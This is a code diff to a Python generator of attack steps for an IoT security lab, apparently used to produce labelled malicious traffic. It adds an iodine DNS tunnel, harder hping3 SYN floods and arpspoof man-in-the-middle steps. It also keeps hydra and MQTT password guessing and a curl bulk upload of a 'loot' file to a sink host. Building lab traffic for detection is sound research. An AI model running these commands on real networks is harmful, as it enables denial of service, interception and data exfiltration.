@@ -9,7 +9,6 @@ missing tool is reported with the package to install.
 """
 from __future__ import annotations
 
-import base64
 import random
 import sys
 from dataclasses import dataclass, field
@@ -25,7 +24,7 @@ TOOLS = {
     "mosquitto_passwd": "mosquitto", "dnsmasq": "dnsmasq-base", "dropbear": "dropbear-bin",
     "dropbearkey": "dropbear-bin", "dig": "bind9-dnsutils", "curl": "curl",
     "nmap": "nmap", "masscan": "masscan", "hping3": "hping3", "hydra": "hydra",
-    "arpspoof": "dsniff", "dnsspoof": "dsniff",
+    "arpspoof": "dsniff", "dnsspoof": "dsniff", "iodine": "iodine", "iodined": "iodine",
 }
 
 #: tools each family needs (the lab itself always needs the first group)
@@ -36,7 +35,7 @@ FAMILY_TOOLS = {
     "dos": ("hping3",),
     "bruteforce": ("hydra", "mosquitto_pub"),
     "spoofing": ("arpspoof", "dnsspoof"),
-    "exfiltration": ("dig", "curl", "hping3"),
+    "exfiltration": ("dig", "curl", "hping3", "iodine", "iodined"),
 }
 
 #: default credentials of the Mirai family, the classic IoT guess list
@@ -59,6 +58,10 @@ class Step:
     min_seconds: float = 4.0
     victim_ip: str = ""          # spoofed-source flood: see lab_labels
     dns_suffix: str = ""         # DNS tunnel through the resolver: see lab_labels
+    needs: tuple[str, ...] = ()  # tools used by lab_services helpers (besides the commands' own binaries)
+
+    def tools(self) -> set[str]:
+        return {Path(c[0]).name for c in self.commands if c[0] != sys.executable} | set(self.needs)
 
 
 @dataclass
@@ -69,6 +72,8 @@ class LabContext:
     macs: dict[str, str]
     workdir: Path
     tunnel_zone: str = "t.lab"
+    iodine_zone: str = "i.lab"
+    iodine_peer: str = "10.77.1.1"
     creds: dict[str, str] = field(default_factory=dict)
 
     def ip(self, role: str) -> str:
@@ -131,8 +136,8 @@ def _hping(ctx: LabContext, *args: str) -> list[str]:
 
 def _dos(ctx: LabContext, rng: random.Random) -> list[Step]:
     v = {k: ctx.ip(k) for k in ("hub", "cam", "sensor", "gw")}
-    n = rng.choice([1500, 2000, 2500])
-    gap = f"u{rng.choice([300, 400, 500])}"
+    n = rng.choice([2000, 3000, 4000])
+    gap = f"u{rng.choice([500, 1000, 2000])}"  # 500-2000 packets/s: each flood lasts 1-8 s
     steps = [
         Step("hping3 SYN flood", "dos", [_hping(ctx, "-S", "-p", "80", "-c", str(n), "-i", gap, v["cam"])]),
         Step("hping3 SYN flood --rand-source", "dos",
@@ -162,32 +167,28 @@ def _bruteforce(ctx: LabContext, rng: random.Random) -> list[Step]:
              [hydra + ["-l", "admin", "-P", pw, f"http-get://{ctx.ip('gw')}/admin"]]),
         Step("mosquitto_pub login guessing", "bruteforce",
              [_py("guess-mqtt", "--host", ctx.ip("hub"), "--user", rng.choice(USERS), "--passwords", pw,
-                  "--max", "60")]),
+                  "--max", "60")], needs=("mosquitto_pub",)),
     ]
     rng.shuffle(steps)
     return steps
 
 
 def _spoofing(ctx: LabContext, rng: random.Random) -> list[Step]:
-    victim = rng.choice(["sensor", "cam", "user"])
+    a, b = rng.sample(["sensor", "cam", "nas"], 2)
     hosts = _write(ctx.workdir / "spoof.hosts", [f"{ctx.ip('attacker')} *.lab", f"{ctx.ip('attacker')} broker.lab"])
-    return [
-        Step("arpspoof (device <-> gateway)", "spoofing",
-             [["arpspoof", "-i", "eth0", "-t", ctx.ip(victim), "-r", ctx.ip("gw")]], weight=2.0, min_seconds=8.0),
-        Step("arpspoof + dnsspoof", "spoofing",
+    steps = [
+        Step("arpspoof devices <-> gateway", "spoofing",
+             [["arpspoof", "-i", "eth0", "-t", ctx.ip(a), "-t", ctx.ip(b), "-r", ctx.ip("gw")]],
+             weight=1.0, min_seconds=8.0),
+        Step("arpspoof MITM devices <-> MQTT broker", "spoofing",
+             [["arpspoof", "-i", "eth0", "-t", ctx.ip("sensor"), "-t", ctx.ip("cam"), "-r", ctx.ip("hub")]],
+             weight=1.0, min_seconds=8.0),
+        Step("arpspoof + dnsspoof (phone's DNS)", "spoofing",
              [["arpspoof", "-i", "eth0", "-t", ctx.ip("user"), ctx.ip("gw")],
-              ["dnsspoof", "-i", "eth0", "-f", hosts, "udp", "dst", "port", "53"]], weight=2.0, min_seconds=8.0),
+              ["dnsspoof", "-i", "eth0", "-f", hosts, "udp", "dst", "port", "53"]], weight=1.0, min_seconds=10.0),
     ]
-
-
-def tunnel_queries(ctx: LabContext, rng: random.Random, n: int, qtype: str) -> list[str]:
-    """dig batch lines: data chunks base32-encoded into long labels under the tunnel zone."""
-    lines = []
-    for seq in range(n):
-        chunk = base64.b32encode(rng.randbytes(rng.choice([30, 35, 38]))).decode().rstrip("=").lower()
-        name = f"{chunk[:60]}.{chunk[60:] or 'a'}{seq:04x}.{ctx.tunnel_zone}"
-        lines.append(f"@{ctx.ip('gw')} {name} {qtype} +tries=1 +time=1")
-    return lines
+    rng.shuffle(steps)
+    return steps
 
 
 def _exfiltration(ctx: LabContext, rng: random.Random) -> list[Step]:
@@ -196,14 +197,23 @@ def _exfiltration(ctx: LabContext, rng: random.Random) -> list[Step]:
     loot.write_bytes(rng.randbytes(rng.choice([4, 6, 8]) * 1024 * 1024))
     small = wd / "loot-small.bin"
     small.write_bytes(rng.randbytes(200_000))
-    txt = _write(wd / "tunnel-txt.dig", tunnel_queries(ctx, rng, rng.choice([250, 350]), "TXT"))
-    a = _write(wd / "tunnel-a.dig", tunnel_queries(ctx, rng, rng.choice([150, 200]), "A"))
     sink = ctx.ip("sink")
+
+    def dig(qtype: str, n: int) -> list[str]:
+        return _py("dig-tunnel", "--server", ctx.ip("gw"), "--zone", ctx.tunnel_zone, "--qtype", qtype,
+                   "--queries", str(n), "--batch", str(rng.choice([5, 10, 20])), "--pause", str(rng.choice([0.2, 0.4])),
+                   "--seed", str(rng.getrandbits(32)))
+
     steps = [
-        Step("DNS tunnel (dig TXT, base32 labels via the lab resolver)", "exfiltration", [["dig", "-f", txt]],
-             dns_suffix=ctx.tunnel_zone),
-        Step("DNS tunnel (dig A, base32 labels via the lab resolver)", "exfiltration", [["dig", "-f", a]],
-             dns_suffix=ctx.tunnel_zone),
+        Step("DNS tunnel (dig TXT, base32 labels via the lab resolver)", "exfiltration",
+             [dig("TXT", rng.choice([250, 350]))], weight=1.5, dns_suffix=ctx.tunnel_zone, needs=("dig",)),
+        Step("DNS tunnel (dig A, base32 labels via the lab resolver)", "exfiltration",
+             [dig("A", rng.choice([150, 200]))], dns_suffix=ctx.tunnel_zone, needs=("dig",)),
+        Step("iodine DNS tunnel via the lab resolver", "exfiltration",
+             [_py("iodine-exfil", "--resolver", ctx.ip("gw"), "--zone", ctx.iodine_zone, "--password",
+                  ctx.creds.get("iodine", "iodine"), "--peer", ctx.iodine_peer, "--pings", str(rng.choice([30, 50])),
+                  "--size", str(rng.choice([300, 600])))], weight=2.0, min_seconds=15.0, dns_suffix=ctx.iodine_zone,
+             needs=("iodine", "ping")),
         Step("bulk HTTP upload to an unseen host", "exfiltration",
              [["curl", "-s", "-o", "/dev/null", "--limit-rate", f"{rng.choice([1, 2])}M", "-m", "30",
                "-H", "Content-Type: application/octet-stream", "--data-binary", f"@{loot}",
